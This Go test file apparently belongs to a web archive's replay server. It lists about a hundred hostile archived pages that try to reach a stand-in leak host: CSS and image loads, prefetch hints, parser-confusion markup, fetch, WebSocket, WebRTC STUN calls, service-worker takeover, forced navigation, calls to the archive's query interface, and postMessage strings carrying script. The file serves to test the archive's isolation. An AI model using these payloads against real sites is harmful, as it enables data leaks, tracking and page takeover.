package serve_test

import (
	"fmt"
	"strconv"
	"strings"
)

// hostilePage is an archived page that tries to reach something outside of the
// archive. In its text, LEAK is a host of its own, IP an address that nobody has,
// and API the origin of the interface.
type hostilePage struct {
	name string
	page string // the content of the body element, or a whole page if it begins with "<!" or "<?"
	// lands says that the page leads to http://LEAK/landed, which the archive has
	// too. The attack has ended when that page is there.
	lands bool
	// contentType is that of the page; "" is text/html.
	contentType string
	silent      bool   // no script of the page runs, so that it reports no end
	header      string // further lines of the header of the page
	more        map[string]string
}

// hostileSite is the site that all hostile pages belong to, so that each could harm
// the others.
const hostileSite = "http://attack.example/"

// hostilePages are the attacks. A page ends by the script that hostileBody adds: it
// runs attack, if the page has such a function, and reports the end.
var hostilePages = []hostilePage{
	// Markup.
	{name: "img", page: `<img src="http://LEAK/a.gif"><img src="//LEAK/b.gif"><img src="http://IP/c.gif"><img src="http:&#47;/LEAK/d.gif"><img src=" http:\\LEAK\e.gif">`},
	{name: "srcset", page: `<img srcset="http://LEAK/a.gif 1x, http://LEAK/b.gif 2x"><picture><source srcset="http://LEAK/c.gif"><img src=x></picture>`},
	{name: "css url", page: `<style>body{background:url(http://LEAK/a)} p{background:u\rl(http://LEAK/b)} i{background:image-set("http://LEAK/c" 1x)}</style><p style="list-style:url('http://LEAK/d')">x<i>y</i>`},
	{name: "css import", page: `<style>@import "http://LEAK/a.css"; @import url(http://LEAK/b.css);</style><style>@\69mport "http://LEAK/c.css";</style><link rel=stylesheet href=s.css>`, more: map[string]string{"s.css": `@import "//LEAK/d.css"; @namespace url(http://LEAK/ns); p{cursor:url(http://IP/e)}`}},
	{name: "font", page: `<style>@font-face{font-family:f;src:url(http://LEAK/f.woff)} p{font-family:f}</style><p>x<script>new FontFace("g","url(http://LEAK/g.woff)").load().catch(()=>{})</script>`},
	{name: "prefetch", page: `<link rel=prefetch href=http://LEAK/a><link rel=prerender href=http://LEAK/b><link rel="next prefetch" href=http://LEAK/c>`},
	{name: "dns-prefetch", page: `<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//LEAK><link rel="DNS-PREFETCH" href=http://a.LEAK/><a href=http://b.LEAK/>b</a>`},
	{name: "preconnect", page: `<link rel=preconnect href=http://LEAK><link rel=pre&#99;onnect href=http://IP crossorigin>`},
	{name: "preconnect in svg", page: `<svg><style><p><link rel=preconnect href=http://LEAK></style></svg><svg><title><link rel=preconnect href=http://b.LEAK></title></svg>`},
	{name: "preconnect in select", page: `<select><xmp></select><link rel=preconnect href=http://LEAK></xmp>`},
	{name: "preconnect in noscript", page: `<noscript><!--</noscript><link rel=preconnect href=http://LEAK>--><noscript><p title="</noscript><link rel=preconnect href=http://b.LEAK>">`},
	{name: "preconnect in comments", page: `<!--><link rel=preconnect href=http://LEAK>--><!---><link rel=preconnect href=http://b.LEAK>--><!-- --!><link rel=preconnect href=http://c.LEAK>-->`},
	{name: "preconnect in a script", page: `<script><!--<script></script><link rel=preconnect href=http://LEAK>--></script><link rel=preconnect href=http://b.LEAK>`},
	{name: "preconnect in a title", page: `<svg><a title="</svg><style>"><link rel=preconnect href=http://LEAK></style><math><mtext><style><a title="</style><b title="><p><link rel=preconnect href=http://b.LEAK>">`},
	{name: "preconnect before an address", page: `<svg><style><p><link rel=preconnect href=http://LEAK></p>a{b:url(x)}</style></svg><svg><style><a title="</style><b title="><p><link rel=preconnect href=http://b.LEAK>" href=x>`},
	{name: "document.write in a title", page: `<script>document.write('<style><a title="</style><li'+'nk rel=preconnect href=http://LEAK>"></a><!--<a title="--><li'+'nk rel=preconnect href=http://b.LEAK>"></a>')</script>`},
	{name: "preload", page: `<link rel=preload as=image href=http://LEAK/a.gif><link rel=modulepreload href=http://LEAK/b.js><link rel=preload as=image imagesrcset="http://LEAK/c 1x">`},
	{name: "link in header", page: `x`, header: "Link: <http://LEAK/>; rel=preconnect, <http://b.LEAK/>; rel=dns-prefetch, <http://LEAK/s.css>; rel=preload; as=style\r\nSpeculation-Rules: \"http://LEAK/rules\"\r\n"},
	{name: "header", page: `x`, header: "Refresh: 0; url=http://LEAK/r\r\nReport-To: {\"group\":\"g\",\"max_age\":9,\"endpoints\":[{\"url\":\"http://LEAK/rt\"}]}\r\nNEL: {\"report_to\":\"g\",\"max_age\":9,\"success_fraction\":1}\r\nReporting-Endpoints: g=\"http://LEAK/re\"\r\nSourceMap: http://LEAK/map\r\nAlt-Svc: h2=\"LEAK:443\"\r\nContent-Security-Policy-Report-Only: img-src 'none'; report-uri http://LEAK/csp\r\nSet-Cookie: a=b\r\nClear-Site-Data: \"*\"\r\nService-Worker-Allowed: /\r\n"},
	{name: "ping", page: `<a id=a href=#x ping="http://LEAK/p">x</a><script>a.click();a.ping="http://LEAK/q";a.setAttribute("ping","http://IP/");a.click()</script>`},
	{name: "meta refresh", page: `<meta http-equiv=refresh content="0;url=http://LEAK/landed">`, lands: true},
	{name: "meta refresh by script", page: `<script>onload=()=>{const m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=http://LEAK/landed";document.head.append(m)}</script>`, lands: true},
	{name: "base", page: `<base href="http://LEAK/"><img src=a.gif><script src=b.js></script><script>onload=()=>{const b=document.querySelector("base");b.href="http://b.LEAK/";new Image().src="c.gif";fetch("d").catch(()=>{})}</script>`},
	{name: "form", page: `<form id=f action="http://LEAK/landed"><input name=a value=b></form><script>onload=()=>f.submit()</script>`, lands: true},
	{name: "form button", page: `<form><button id=b formaction="http://LEAK/landed">x</button></form><script>onload=()=>b.click()</script>`, lands: true},
	{name: "form post", page: `<form id=f method=post action="http://LEAK/landed"><input name=a value=b></form><script>onload=()=>HTMLFormElement.prototype.submit.call(f)</script>`, lands: true},
	{name: "object", page: `<object data="http://LEAK/a.html"></object><object data="data:text/html,<img src=http://LEAK/b><script>new RTCPeerConnection({iceServers:[{urls:'stun:LEAK'}]})</script>"></object><object type="application/x-shockwave-flash"><param name=movie value="http://LEAK/c.swf"></object>`},
	{name: "embed", page: `<embed src="http://LEAK/a.swf"><embed src="http://IP/b.html" type=text/html>`},
	{name: "applet", page: `<applet codebase="http://LEAK/" code=a.class archive=b.jar></applet><bgsound src="http://LEAK/c.mid">`},
	{name: "iframe", page: `<iframe src="http://LEAK/a.html"></iframe><iframe src="http://IP/b.html"></iframe>`},
	{name: "iframe srcdoc", page: `<iframe srcdoc="<img src='http://LEAK/a'><link rel=preconnect href=http://b.LEAK><script>new RTCPeerConnection({iceServers:[{urls:'stun:LEAK'}]}).createDataChannel('x')</script>"></iframe>`},
	{name: "iframe data", page: `<iframe src="data:text/html,<link rel=preconnect href=http://LEAK><script>` + rtcIn("self") + `</script>"></iframe>`},
	{name: "iframe blob", page: `<script>const i=document.createElement("iframe");i.src=URL.createObjectURL(new Blob(["<link rel=preconnect href=http://LEAK><script>` + rtcIn("self") + `</"+"script>"],{type:"text/html"}));document.body.append(i)</script>`},
	{name: "iframe javascript", page: `<iframe src="javascript:'<script>` + rtcIn("self") + `</script>'"></iframe>`},
	{name: "iframe sandbox", page: `<iframe sandbox="allow-scripts" srcdoc="<link rel=preconnect href=http://LEAK><script>` + rtcIn("self") + `</script>"></iframe>`},
	{name: "frameset", page: `<!DOCTYPE html><html><frameset cols=*,*><frame src="http://LEAK/a.html"><frame src="http://IP/b.html"></frameset></html>`, lands: false},
	{name: "video", page: `<video src="http://LEAK/a.mp4" poster="http://LEAK/b.jpg" preload=auto><track default src="http://LEAK/c.vtt"></video><audio autoplay src="http://LEAK/d.mp3"></audio>`},
	{name: "svg", page: `<svg><image href="http://LEAK/a"/><use href="http://LEAK/b#c"/><feImage href="http://LEAK/d"/><script href="http://LEAK/e.js"></script><rect fill="url(http://LEAK/f#g)"/><image><set attributeName=href to="http://LEAK/h"/></image></svg>`},
	{name: "svg document", contentType: "image/svg+xml", page: `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><image href="http://LEAK/a"/><h:link rel="preconnect" href="http://LEAK/"/><h:img src="http://LEAK/b"/><script>` + rtcIn("self") + `</script><script>parent.postMessage({ended:"svg document"},"*")</script></svg>`},
	{name: "xhtml", contentType: "application/xhtml+xml", page: `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l "<link rel='preconnect' href='http://LEAK/'/>"><!ENTITY r "preconnect">]><html xmlns="http://www.w3.org/1999/xhtml"><body>&l;<link rel="&r;" href="http://b.LEAK/"/><script>` + strings.ReplaceAll(rtcIn("self"), "=>", "=&gt;") + `</script><script>parent.postMessage({ended:"xhtml"},"*")</script></body></html>`},
	{name: "mathml", page: `<math href="http://LEAK/"><mi xlink:href="http://LEAK/a">x</mi><annotation-xml encoding="text/html"><img src="http://LEAK/b"><link rel=preconnect href=http://LEAK></annotation-xml></math>`},
	{name: "manifest", page: `<!DOCTYPE html><html manifest="http://LEAK/a.appcache"><link rel=manifest href="http://LEAK/m.json"><body>`},
	{name: "favicon", page: `<link rel=icon href="http://LEAK/f.ico"><link rel=apple-touch-icon href="http://LEAK/g.png">`},
	{name: "background", page: `<!DOCTYPE html><body background="http://LEAK/a.gif"><table background="http://LEAK/b.gif"><td background="http://LEAK/c.gif">x</table>`},
	{name: "speculation rules", page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://LEAK/a"]}],"prerender":[{"source":"list","urls":["http://LEAK/b"]}]}</script><script>const s=document.createElement("script");s.type="speculationrules";s.textContent='{"prefetch":[{"source":"list","urls":["http://LEAK/c"]}]}';document.body.append(s)</script>`},
	{name: "utf-16", contentType: "text/html; charset=utf-16le", page: `<!DOCTYPE html><link rel=preconnect href=http://LEAK><img src=http://LEAK/a><body>`},
	{name: "gbk", contentType: "text/html; charset=gbk", page: "<!DOCTYPE html><p title=\"\xbd\xf1\xcc\xec\\\"><style>p{background:url('\xd7\x5c');} i{background:url(http://LEAK/\xd7\x5c)}</style><link rel=preconnect href=http://LEAK/\xd7\x5c><body><i>x</i>"},
	// Scripts.
	{name: "fetch", page: attack(`await fetch("http://LEAK/a").catch(()=>0);await fetch(new Request("http://LEAK/b")).catch(()=>0);await fetch("http://IP/",{mode:"no-cors"}).catch(()=>0)`)},
	{name: "xhr", page: attack(`await new Promise(r=>{const x=new XMLHttpRequest;x.onloadend=r;x.open("GET","http://LEAK/a");x.send()})`)},
	{name: "beacon", page: attack(`navigator.sendBeacon("http://LEAK/a","x");if(self.fetchLater)fetchLater("http://LEAK/b");await fetch("http://LEAK/c",{keepalive:true,method:"POST"}).catch(()=>0)`)},
	{name: "websocket", page: attack(`for(const u of ["ws://LEAK/","ws://IP/","ws://"+location.host+"/x"])await new Promise(r=>{const w=new WebSocket(u);w.onclose=r})`)},
	{name: "eventsource", page: attack(`await new Promise(r=>{const e=new EventSource("http://LEAK/a");e.onerror=()=>{e.close();r()}})`)},
	{name: "webrtc", page: attack(rtcIn("self") + rtcIn("document.body.appendChild(document.createElement('iframe')).contentWindow"))},
	{name: "webrtc of frames", page: `<iframe></iframe><script>` + rtcIn("frames[0]") + `</script>` + attack(
		`document.body.innerHTML="<iframe></iframe><iframe></iframe>";`+rtcIn("frames[0]")+rtcIn("frames[1]")+
			`document.write("<iframe></iframe>");`+rtcIn("frames[frames.length-1]")+
			`const d=document.body.insertAdjacentElement("beforeend",document.createElement("div"));d.outerHTML="<object data='about:blank'></object><iframe></iframe>";`+rtcIn("frames[frames.length-1]")+
			`const r=document.createRange();r.selectNodeContents(document.body);r.insertNode(r.createContextualFragment("<iframe></iframe>"));`+rtcIn("frames[0]"))},
	{name: "webrtc while inserting", page: attack(
		`const f=document.createDocumentFragment();const s=document.createElement("script");s.text="rtc(frames[0])";f.append(document.createElement("iframe"),s);document.body.append(f);` +
			`const i=document.createElement("iframe");i.onload=()=>{` + rtcIn("frames[frames.length-1]") + `};document.body.append(i);` +
			`customElements.define("x-x",class extends HTMLElement{connectedCallback(){` + rtcIn("frames[frames.length-1]") + `}});const d=document.createElement("div");document.body.append(d);d.innerHTML="<iframe></iframe><x-x></x-x>";` +
			`const h=document.createElement("div").attachShadow({mode:"closed"});const j=document.createElement("iframe");j.onload=()=>{` + rtcIn("frames[frames.length-1]") + `};h.append(j);document.body.append(h.host);`)},
	{name: "javascript address", page: `<script>onload=()=>{location="javascript:'<script>` + rtcIn("self") + `<"+"/script>'";setTimeout(()=>parent.postMessage({ended:"javascript address"},"*"))}</script>`},
	{name: "webtransport", page: attack(`try{await new WebTransport("https://LEAK/").ready}catch{}`)},
	{name: "worker", page: attack(`const w=new Worker("w.js");await new Promise(r=>{w.onmessage=r;w.onerror=r});try{new Worker("http://LEAK/w.js")}catch{}`), more: map[string]string{"w.js": `(async()=>{await fetch("http://LEAK/a").catch(()=>0);try{importScripts("http://LEAK/b.js")}catch{};try{await new WebTransport("https://LEAK/").ready}catch{};await new Promise(r=>{try{const s=new WebSocket("ws://LEAK/");s.onclose=s.onerror=r}catch{r()}});postMessage(1)})()`}},
	{name: "blob worker", page: attack(`const w=new Worker(URL.createObjectURL(new Blob(["(async()=>{await fetch('http://LEAK/a').catch(()=>0);try{importScripts('http://LEAK/b.js')}catch{};postMessage(1)})()"])));await new Promise(r=>{w.onmessage=r;w.onerror=r})`)},
	{name: "service worker", page: attack(`const n=Object.getOwnPropertyDescriptor(Navigator.prototype,"serviceWorker");for(const c of [navigator.serviceWorker,n&&n.get.call(navigator),document.body.appendChild(document.createElement("iframe")).contentWindow.navigator.serviceWorker])for(const u of ["sw.js","/_infomall/worker.js?x","/20080601js_/http://attack.example/sw.js"])await c?.register(u).catch(()=>0)`), more: map[string]string{"sw.js": `onfetch=e=>e.respondWith(new Response("taken over"))`}},
	{name: "document.write", page: `<script>document.write('<img src="http://LEAK/a"><link rel=preconnect href=http://LEAK>');document.write('<link rel=precon');document.write('nect href="http://b.LEAK">');document.write("<scr"+"ipt src='http://LEAK/b.js'></scr"+"ipt>")</script>`},
	{name: "document.write of a program in svg", page: `<script>document.write("<svg><script><title><link rel=preconnect href=http://LEAK><LINK rel=preconnect href=http://c.LEAK><iframe srcdoc=\"<script>new RTCPeerConnection({iceServers:[{urls:'stun:b.LEAK'}]}).createDataChannel('x')<\/script>\"></iframe></title><\/script></svg>");document.write("<svg><script/><desc><iframe src");document.write("doc=\"<script>new RTCPeerConnection({iceServers:[{urls:'stun:d.LEAK'}]}).createDataChannel('x')<\/script>\"></iframe></desc></svg>")</script>`},
	{name: "document.open", page: attack(`document.open();document.write("<link rel=preconnect href=http://LEAK><img src=http://LEAK/a><p>x");document.close()`)},
	{name: "setters", page: attack(`for(const [t,p] of [["img","src"],["img","srcset"],["script","src"],["link","href"],["iframe","src"],["embed","src"],["object","data"],["video","poster"],["audio","src"],["input","src"],["body","background"]]){const e=document.createElement(t);if(t=="input")e.type="image";if(t=="link")e.rel="stylesheet";e[p]="http://LEAK/"+t+p;document.body.append(e)}`)},
	{name: "attributes", page: attack(`const l=()=>{const e=document.createElement("link");document.head.append(e);return e};let e=l();e.setAttribute("rel","preconnect");e.setAttribute("href","http://a.LEAK");e=l();e.rel="preconnect";e.href="http://b.LEAK";e=l();e.relList.add("preconnect");e.setAttributeNS(null,"href","http://c.LEAK");e=l();let t=document.createAttribute("href");t.value="http://d.LEAK";e.setAttributeNode(t);t=document.createAttribute("rel");t.value="preconnect";e.setAttributeNode(t);e=l();e.rel="preconnect";e.href="/x";e.attributes.href.value="http://e.LEAK";e.attributes.href.nodeValue="http://f.LEAK";e.attributes.href.textContent="http://g.LEAK";e=l();e.rel="preconnect";t=document.createAttribute("href");t.value="http://h.LEAK";e.attributes.setNamedItem(t)`)},
	{name: "markup setters", page: attack(`const h='<link rel=preconnect href=http://LEAK><img src=http://LEAK/a>';document.body.innerHTML=h;document.body.firstChild.outerHTML=h;document.body.insertAdjacentHTML("beforeend",h);document.body.append(document.createRange().createContextualFragment(h));document.body.append(...new DOMParser().parseFromString(h,"text/html").querySelectorAll("*"));const t=document.createElement("template");t.innerHTML=h;document.body.append(t.content.cloneNode(true));document.body.setHTMLUnsafe?.(h);document.body.attachShadow({mode:"open"}).innerHTML=h;Document.parseHTMLUnsafe&&document.body.append(...Document.parseHTMLUnsafe(h).head.children)`)},
	{name: "fields with names of properties", page: attack(`document.body.innerHTML='<form><input name=attributes><input name=localName><input name=ownerDocument><input name=querySelectorAll></form><link rel=preconnect href=http://LEAK><form action=http://LEAK/x><input name=innerHTML></form>';const d=new DOMParser().parseFromString('<form><input name=attributes></form><link rel=preconnect href=http://b.LEAK>',"text/html");document.body.append(...d.querySelectorAll("link"))`)},
	{name: "mutation of markup", page: attack(`document.body.innerHTML='<svg></p><style><a id="</style><link rel=preconnect href=http://LEAK>">';document.body.innerHTML='<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;link rel=preconnect href=http://b.LEAK&gt;">'`)},
	{name: "styles by script", page: attack(`document.body.style.background="url(http://LEAK/a)";document.body.style.setProperty("cursor","url(http://LEAK/b),auto");document.body.style.cssText="list-style:url(http://LEAK/c)";const s=document.createElement("style");document.head.append(s);s.textContent="p{background:url(http://LEAK/d)}";s.sheet.insertRule("@import 'http://LEAK/e.css'");s.sheet.insertRule("body{background:url(http://LEAK/f)}",1)`)},
	{name: "modules", page: `<script type=importmap>{"imports":{"m":"http://LEAK/m.js"}}</script><script type=module>import("m").catch(()=>0);import("http://LEAK/n.js").catch(()=>0)</script><script type=module src="http://LEAK/o.js"></script>`},
	{name: "location.href", page: onLoad(`location.href="http://LEAK/landed"`), lands: true},
	{name: "location", page: onLoad(`location="http://LEAK/landed"`), lands: true},
	{name: "window.location", page: onLoad(`self["loca"+"tion"]="//LEAK/landed"`), lands: true},
	{name: "document.location", page: onLoad(`document.location="http://LEAK/landed"`), lands: true},
	{name: "location.assign", page: onLoad(`location.assign("http://LEAK/landed")`), lands: true},
	{name: "location.replace", page: onLoad(`location.replace("http://LEAK/landed")`), lands: true},
	{name: "location.host", page: onLoad(`location.href="http://LEAK/x/../landed"`), lands: true},
	{name: "navigation.navigate", page: onLoad(`navigation.navigate("http://LEAK/landed")`), lands: true},
	{name: "link click", page: `<a id=a href="http://LEAK/landed">x</a>` + onLoad(`a.click()`), lands: true},
	{name: "link by script", page: `<a id=a href="/x">x</a>` + onLoad(`a.host="LEAK";a.pathname="/landed";a.protocol="http:";a.port="";a.click()`), lands: true},
	{name: "top", page: attack(`for(const f of [()=>top.location="http://LEAK/a",()=>parent.location="http://LEAK/b",()=>top.location.replace("http://LEAK/c"),()=>open("http://LEAK/landed","_top"),()=>top.location="API/api/query?statement=SHOW+POOLS"])try{f()}catch{}`), lands: true},
	{name: "open", page: `<a id=a target=_blank href="http://LEAK/a">x</a><form id=f target=_blank action="http://LEAK/b"></form>` + attack(`open("http://LEAK/c");open("http://LEAK/d","x","noopener");a.click();showModalDialog?.("http://LEAK/e")`)},
	{name: "history", page: attack(`history.pushState(null,"","/deep/x");history.replaceState(null,"","?q");new Image().src="y.gif";await fetch("z").catch(()=>0)`)},
	{name: "interface", page: `<img src="API/api/query?statement=SHOW+POOLS"><script src="API/api/query?statement=SHOW+POOLS&format=json"></script><iframe src="API/"></iframe><link rel=stylesheet href="API/x.css"><form id=f target=x method=post action="API/api/query"></form><iframe name=x></iframe>` + attack(`f.submit();await fetch("API/api/query?statement=SHOW+POOLS").catch(()=>0);await fetch("API/api/query",{mode:"no-cors",method:"POST",body:"SHOW POOLS"}).catch(()=>0);try{parent.document.title="x"}catch{};try{parent.fetch("/api/query")}catch{}`)},
	{name: "messages", page: attack(`for(const m of [{infomall:"open",url:"javascript:alert(1)"},{infomall:"open",url:"http://LEAK/<img src=x onerror=alert(1)>"},{infomall:"page",url:"http://LEAK/",title:"<img src=http://LEAK/a>",asked:"<b>",captured:"x"},"x",null,{infomall:"page"}])parent.postMessage(m,"*")`)},
	{name: "other functions", page: attack(`const t=async f=>{try{await f()}catch{}};await t(()=>navigator.registerProtocolHandler("web+x","http://LEAK/%s"));await t(()=>new PaymentRequest([{supportedMethods:"http://LEAK/pay"}],{total:{label:"x",amount:{currency:"EUR",value:"1"}}}).canMakePayment());await t(()=>navigator.credentials.get({identity:{providers:[{configURL:"http://LEAK/c",clientId:"x"}]}}));await t(()=>navigator.joinAdInterestGroup({owner:"http://LEAK",name:"x"},9));await t(()=>CSS.paintWorklet.addModule("http://LEAK/p.js"));await t(()=>new SharedWorker("http://LEAK/s.js"));await t(()=>sharedStorage.worklet.addModule("http://LEAK/ss.js"));await t(()=>navigator.mediaSession.metadata=new MediaMetadata({artwork:[{src:"http://LEAK/a.png"}]}));await t(()=>new Notification("x",{icon:"http://LEAK/i.png"}))`)},
	{name: "raw bytes", page: `<iframe src="/20080710id_/http://attack.example/raw.html"></iframe><iframe src="/20080710im_/http://attack.example/raw.html"></iframe><iframe src="/20080710js_/http://attack.example/raw.html"></iframe><object data="/20080710id_/http://attack.example/raw.html"></object><embed src="/20080710cs_/http://attack.example/raw.html"><iframe src="/20080710id_/http://attack.example/raw.svg"></iframe><iframe src="/20080710oe_/http://attack.example/raw.xml"></iframe>` + attack(`await fetch("/20080710oe_/http://attack.example/raw.html").then(r=>r.text());const f=document.createElement("iframe");f.src="/20080710oe_/http://attack.example/raw.html";document.body.append(f);await new Promise(r=>f.onload=r)`), more: map[string]string{
		"raw.html": `<link rel=preconnect href=http://LEAK><script>` + rtcIn("self") + `</script>`,
		"raw.svg":  `<svg xmlns="http://www.w3.org/2000/svg"><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="http://LEAK"/></svg>`,
		"raw.xml":  `<a><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preconnect" href="http://LEAK"/></a>`}},
	{name: "views", page: `<div>&lt;link rel=preconnect href=http://LEAK&gt;</div><p title="<link rel=preconnect href=http://b.LEAK>">x</p><infomall-mark data-infomall-mark="</infomall-mark><link rel=preconnect href=http://c.LEAK>">y</infomall-mark><iframe src="/20080710if_blocks/http://attack.example/view.html"></iframe><iframe src="/20080710mp_changes-2007/http://attack.example/view.html"></iframe>` + attack(`for(const v of ["blocks","changes"])await fetch("/20080710mp_"+v+"/http://attack.example/view.html").then(r=>r.text());parent.postMessage({infomall:"page",url:"http://x/../../../../api/query?statement=SHOW+POOLS",asked:"20080710000000",captured:"20080707010203"},"*");parent.postMessage({infomall:"page",url:"http://LEAK/%2e%2e/%2e%2e/%2e%2e/%2e%2e/api/query",asked:"20080710000000",captured:"20080707010203"},"*")`), more: map[string]string{
		"view.html": `<!DOCTYPE html><svg><style><a title="</style><link rel=preconnect href=http://LEAK>">x</a></svg><p>text <b>y</p>z</b> of many words<table>t<tr><td>u</table><math><mtext>v<mglyph><style>w<!--</style><img title="--&gt;&lt;link rel=preconnect href=http://b.LEAK&gt;"></math><script>` + rtcIn("self") + `</script>`}},
	{name: "markup setters in xhtml", contentType: "application/xhtml+xml", page: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p id="p">x</p><p id="q">y</p><script><![CDATA[
const h="='http://www.w3.org/1999/xhtml' rel='preconnect' href='http://",p=document.getElementById("p"),q=document.getElementById("q");
for(const f of [()=>p.innerHTML="<li"+"nk xmlns"+h+"LEAK/'/>",()=>q.outerHTML="<li"+"nk xmlns"+h+"b.LEAK/'/>",()=>p.innerHTML="<h:li"+"nk xmlns:h"+h+"c.LEAK/'/>",()=>document.body.insertAdjacentHTML("beforeend","<h:li"+"nk xmlns:h"+h+"d.LEAK/'/>")])try{f()}catch{}
parent.postMessage({ended:"markup setters in xhtml"},"*")]]></script></body></html>`},
	{name: "xslt", silent: true, contentType: "text/xml", page: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://attack.example/x.xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>` + rtcIn("self") + `</h:script><h:img src="http://LEAK/z"/></a>`, more: map[string]string{"x.xsl": `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="http://LEAK/i.xsl"/><xsl:template match="/"><html><head><link rel="preconnect" href="http://LEAK/"/></head><body><img src="http://LEAK/a"/><xsl:copy-of select="document('http://LEAK/d.xml')"/><script>` + rtcIn("self") + `</script></body></html></xsl:template></xsl:stylesheet>`}},
}

// rtcIn returns a program that connects by WebRTC, with the functions of window win.
func rtcIn(win string) string {
	return "try{const w=" + win + ";const p=new w.RTCPeerConnection({iceServers:[{urls:[`stun:LEAK:3478`,`stun:IP:3478`]}]});p.createDataChannel(`x`);p.createOffer().then(o=>p.setLocalDescription(o))}catch{}"
}

// attack returns a script with a function that the end of the page waits for.
func attack(program string) string {
	return "<script>async function attack(){" + program + "}</script>"
}

// onLoad returns a script that runs program when the page has loaded.
func onLoad(program string) string { return "<script>onload=()=>{" + program + "}</script>" }

// hostileBody returns the body of the hostile page with this index, in UTF-8.
func hostileBody(i int) string {
	p := hostilePages[i]
	if strings.HasSuffix(p.contentType, "xml") {
		return inContext(p.page, i)
	}
	scripts := `<script>function rtc(w){` + rtcIn("w") + `}
addEventListener("load",async()=>{try{await self.attack?.()}catch{}parent.postMessage({ended:` + strconv.Quote(p.name) + `},"*")})</script>`
	if start, rest, ok := strings.Cut(p.page, ">"); ok && strings.HasPrefix(start, "<!DOCTYPE") {
		return inContext(start+">"+scripts+rest, i)
	}
	return inContext("<!DOCTYPE html><title>"+p.name+"</title><body>"+scripts+p.page, i)
}

// inContext returns text, a part of the hostile page with this index, with its
// hosts.
func inContext(text string, i int) string {
	return strings.NewReplacer("LEAK", leakHost(i), "IP", "192.0.2.7", "API", interfaceOrigin).Replace(text)
}

// leakHost returns the host that only the hostile page with this index uses.
func leakHost(i int) string { return fmt.Sprintf("a%d.leak.example", i) }

// hostileURL returns the URL of the hostile page with this index.
func hostileURL(i int) string { return fmt.Sprintf("%sp%d/", hostileSite, i) }
